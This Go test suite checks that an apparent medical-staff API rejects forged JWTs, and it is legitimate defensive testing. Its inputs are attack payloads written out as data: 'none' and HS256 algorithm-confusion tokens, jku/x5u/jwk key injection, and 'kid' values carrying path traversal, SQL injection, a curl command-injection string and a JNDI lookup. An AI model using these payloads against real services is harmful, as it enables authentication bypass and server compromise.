package main_test

import (
	"bufio"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestATokenWithAnyBitChangedIsNone(t *testing.T) {
	s := sharedService(t, "sqlite")
	p := s.person()
	var conn net.Conn
	var in *bufio.Reader
	// By hand, for a client's library sends no control characters; on one connection as long as the service keeps it.
	status := func(token string) int {
		if conn == nil {
			conn = s.dial()
			in = bufio.NewReader(conn)
		}
		require.NoError(t, conn.SetDeadline(time.Now().Add(20*time.Second)))
		_, err := io.WriteString(conn, "GET /doctor/doctor_manage HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "+token+"\r\n\r\n")
		require.NoError(t, err)
		response, err := http.ReadResponse(in, nil)
		require.NoError(t, err, "%q", token)
		a, err := read(response)
		require.NoError(t, err)
		if a.Ends {
			require.NoError(t, conn.Close())
			conn = nil
		}
		return a.Status
	}
	require.Equal(t, 200, status(p.token))
	for i := range p.token {
		for bit := range 8 {
			changed := []byte(p.token)
			changed[i] ^= 1 << bit
			want := 401
			if c := changed[i]; c < ' ' && c != '\t' && c != '\r' && c != '\n' || c == 0x7f {
				want = 400 // no character of a header
			}
			if c := changed[i]; c == '\r' || c == '\n' {
				continue // another request altogether
			}
			require.Equal(t, want, status(string(changed)), "bit %d of byte %d: %q", bit, i, changed[i])
		}
		require.Equal(t, 401, status(p.token[:i]+p.token[i+1:]), "without byte %d", i)
		require.Equal(t, 401, status(p.token[:i+1]+p.token[i:]), "byte %d twice", i)
	}
	require.Equal(t, 200, status(p.token))
}

// What a library signs with each algorithm that it knows, under a key that the forger has or takes from us.
func TestATokenOfAnotherAlgorithmIsNone(t *testing.T) {
	onEachService(t, func(t *testing.T, s *service) {
		p := s.person()
		kid, key := s.signingKey()
		claims := encoded(s.claims(p.token, map[string]any{"role": "admin", "sub": "1"}))
		public := key.Public().(ed25519.PublicKey)
		spki, err := x509.MarshalPKIXPublicKey(public)
		require.NoError(t, err)
		rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
		require.NoError(t, err)
		ecKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		require.NoError(t, err)
		mac := func(secret []byte) func([]byte) []byte {
			return func(input []byte) []byte {
				h := hmac.New(sha256.New, secret)
				_, _ = h.Write(input) // never fails
				return h.Sum(nil)
			}
		}
		asymmetric := func(with crypto.Signer, options crypto.SignerOpts) func([]byte) []byte {
			return func(input []byte) []byte {
				digest := sha256.Sum256(input)
				signature, err := with.Sign(rand.Reader, digest[:], options)
				require.NoError(t, err)
				return signature
			}
		}
		nothing := func([]byte) []byte { return nil }
		for alg, ways := range map[string][]func([]byte) []byte{
			"none": {nothing}, "None": {nothing}, "NONE": {nothing}, "nOnE": {nothing}, "": {nothing},
			"HS256": {
				mac(public), mac(spki), mac(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: spki})), mac(nil), mac([]byte("secret")),
				mac([]byte(base64.RawURLEncoding.EncodeToString(public))), mac([]byte(kid)),
			},
			"RS256": {asymmetric(rsaKey, crypto.SHA256)},
			"PS256": {asymmetric(rsaKey, &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthEqualsHash, Hash: crypto.SHA256})},
			"ES256": {asymmetric(ecKey, crypto.SHA256), func([]byte) []byte { return make([]byte, 64) }},
		} {
			for i, sign := range ways {
				for _, name := range []any{kid, nil} {
					input := encoded(changed(map[string]any{"alg": alg, "typ": "at+jwt", "kid": kid}, map[string]any{"kid": name})) + "." + claims
					token := input + "." + base64.RawURLEncoding.EncodeToString(sign([]byte(input)))
					assert.Equal(t, 40100, p.bearing(token).get().Code, "%s %d", alg, i)
					assert.Equal(t, 40100, p.bearing(token).ask("POST", "/doctor/logout", "").Code, "%s %d", alg, i)
				}
			}
		}
	})
}

// Keys come from the folder and from nowhere else, wherever a token says that its key can be had.
func TestATokenLeadsToNoPlaceWhereAKeyCouldBe(t *testing.T) {
	onEachService(t, func(t *testing.T, s *service) {
		listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
		require.NoError(t, err)
		var visits atomic.Int32
		ended := make(chan struct{})
		go func() {
			defer close(ended)
			for {
				conn, err := listener.Accept()
				if err != nil {
					return // closed
				}
				visits.Add(1)
				_ = conn.Close()
			}
		}()
		p := s.person()
		kid, key := s.signingKey()
		_, foreign, err := ed25519.GenerateKey(rand.Reader)
		require.NoError(t, err)
		base := "http://" + listener.Addr().String() + "/"
		jwk := map[string]any{
			"kty": "OKP", "crv": "Ed25519", "kid": kid, "x": base64.RawURLEncoding.EncodeToString(foreign.Public().(ed25519.PublicKey)),
		}
		good := map[string]any{"alg": "EdDSA", "typ": "at+jwt", "kid": kid}
		for what, change := range map[string]map[string]any{
			"jku": {"jku": base + "jwks.json"}, "x5u": {"x5u": base + "key.pem"}, "jwk": {"jwk": jwk}, "x5c": {"x5c": []string{base}},
			"crit and jku": {"jku": base, "crit": []string{"jku"}}, "url": {"url": base}, "iss": {"iss": base},
			"a kid that is a URL": {"kid": base + "k"}, "a kid that is a file": {"kid": "file:///proc/self/environ"},
			"a kid that is our key's path":   {"kid": s.keyFolder() + "/" + kid},
			"a kid that climbs to our key":   {"kid": "../" + kid},
			"a kid that is the file's name":  {"kid": kid + ".pem"},
			"a kid that is a device":         {"kid": "../../../../../../dev/null"},
			"a kid of SQL":                   {"kid": "x' UNION SELECT 'key' --"},
			"a kid of commands":              {"kid": "$(curl " + base + ")|curl " + base},
			"a kid of a template":            {"kid": "${jndi:ldap://" + listener.Addr().String() + "/a}"},
			"a kid with a NUL":               {"kid": kid + "\x00"},
			"an empty kid":                   {"kid": ""},
			"a kid of a dot":                 {"kid": "."},
			"the file that names the key":    {"kid": "current"},
			"a kid of two thousand letters":  {"kid": strings.Repeat("k", 2000)},
			"a kid longer than any token is": {"kid": strings.Repeat("k", 9000)},
			"another token inside":           {"cty": "JWT"},
			"compressed":                     {"zip": "DEF"},
			"unencoded":                      {"b64": false, "crit": []string{"b64"}},
		} {
			for _, by := range []ed25519.PrivateKey{foreign, key} {
				a := p.bearing(signed(by, changed(good, change), s.claims(p.token, map[string]any{"iss": "doctor-service"}))).get()
				assert.Equal(t, 40100, a.Code, "%s: %s", what, a.Body)
			}
			a := p.bearing(s.forge(nil, s.claims(p.token, map[string]any{"iss": base, "jku": base, "jwk": jwk}))).get()
			assert.Equal(t, 40100, a.Code, what)
		}
		accepted(t, p.get())
		require.NoError(t, listener.Close())
		<-ended
		require.Zero(t, visits.Load(), "the service went to look")
	})
}

func TestATokenOfDotsOrOfClaimsInDisguiseIsNone(t *testing.T) {
	onEachService(t, func(t *testing.T, s *service) {
		p := s.person()
		parts := strings.Split(p.token, ".")
		for _, token := range []string{
			strings.Repeat(".", 15000), parts[0] + strings.Repeat(".", 12000) + parts[2], strings.Repeat("e30.", 3700), "..", ".", "...",
			strings.Repeat(p.token+".", 20), parts[0] + "." + strings.Repeat("A", 14000) + "." + parts[2],
		} {
			refused(t, 40100, p.bearing(token).get())
			refused(t, 40100, p.bearing(token).ask("POST", "/doctor/logout", ""))
		}
		claims := s.claims(p.token, nil)
		accepted(t, p.bearing(s.forge(nil, claims)).get())
		for name, value := range claims {
			for _, disguise := range []string{strings.ToUpper(name), strings.ToUpper(name[:1]) + name[1:], name + " ", name + "\x00", " " + name} {
				instead := s.forge(nil, s.claims(p.token, map[string]any{name: nil, disguise: value}))
				assert.Equal(t, 40100, p.bearing(instead).get().Code, "%q instead of %s", disguise, name)
			}
			for _, wrong := range []any{"", []any{}, map[string]any{}, true, -1, 1e300, strings.Repeat("9", 400), []any{value, value}} {
				if name == "aud" && fmt.Sprint(wrong) == fmt.Sprint([]any{value, value}) {
					continue // an audience may be listed, even twice
				}
				other := s.forge(nil, s.claims(p.token, map[string]any{name: wrong}))
				assert.Equal(t, 40100, p.bearing(other).get().Code, "%s: %v", name, wrong)
			}
		}
	})
}
